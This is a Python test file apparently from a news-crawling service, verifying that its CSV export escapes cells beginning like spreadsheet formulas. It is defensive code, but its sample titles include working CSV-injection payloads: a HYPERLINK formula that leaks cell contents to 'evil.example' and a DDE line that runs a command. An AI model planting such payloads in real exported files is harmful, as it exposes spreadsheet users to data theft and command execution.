"""The CSV export neutralises formula injection: a crawled title, outlet or entity starting like a
spreadsheet formula (= + - @, tab, CR) is exported as text (prefixed with '), on both backends."""

from __future__ import annotations

import csv
import io
from datetime import UTC, datetime

from store.models import Article, Entity
from tests.api.conftest import Api

HOSTILE_TITLES = [
    '=HYPERLINK("http://evil.example/?"&A1,"Huế")',
    "+cmd|' /C calc'!A0 Huế",
    "-2+3 Huế",
    "@SUM(1+1) Huế",
    "\tHuế tab",
    "\rHuế cr",
]


def test_cells_starting_like_a_formula_are_exported_as_text(api: Api) -> None:
    articles = [
        Article(
            url=f"https://evil.example/formula-{n}.html",
            outlet="tuoitre",
            title=f"{title} formulae",
            body="Bài viết về Huế formulae.",
            published_at=datetime(2026, 11, 1, n, tzinfo=UTC),
            entities=[Entity(text="=1+1", type="ORG", normalized="1+1")],
        )
        for n, title in enumerate(HOSTILE_TITLES)
    ]
    assert api.store.index_articles(articles).ok
    api.store.refresh()
    with api.client("press") as client:
        response = client.get("/articles/export.csv", params={"q": "formulae"})
    assert response.status_code == 200
    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"), newline="")))
    header = rows[0]
    titles = sorted(row[header.index("title")] for row in rows[1:])
    assert titles == sorted("'" + f"{title} formulae" for title in HOSTILE_TITLES)
    assert {row[header.index("entities")] for row in rows[1:]} == {"'=1+1"}
    assert all(not cell.startswith(("=", "+", "-", "@", "\t", "\r")) for row in rows[1:] for cell in row)
